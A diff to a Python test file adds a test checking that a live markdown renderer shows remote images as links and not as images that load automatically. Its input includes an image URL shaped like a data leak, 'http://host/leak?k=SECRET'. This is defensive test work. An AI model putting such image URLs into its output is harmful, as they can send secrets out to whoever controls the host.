@@ -49,3 +49,11 @@ console.log(JSON.stringify({{ends, whole: L.stableEnd(text, 0)}}));
     fence_open, fence_close = text.index("```python"), text.index("```\n\n-") + 3
     assert not any(fence_open < e < fence_close for e in ends)
     assert text[whole:] == "last" or text[whole:].startswith("next para")
+
+
+def test_the_live_renderer_shows_remote_images_as_links() -> None:
+    html = run_js('console.log(JSON.stringify(L.renderMarkdown('
+                  '"![x](http://host/leak?k=SECRET) ![y](pic.png) ![z](data:image/png;base64,iVBORw0KGgo=)")))')
+    assert isinstance(html, str)
+    assert 'href="http://host/leak?k=SECRET"' in html and 'href="pic.png"' in html
+    assert html.count("<img") == 1 and '<img src="data:image/png;base64,' in html  # inline data fetches nothing
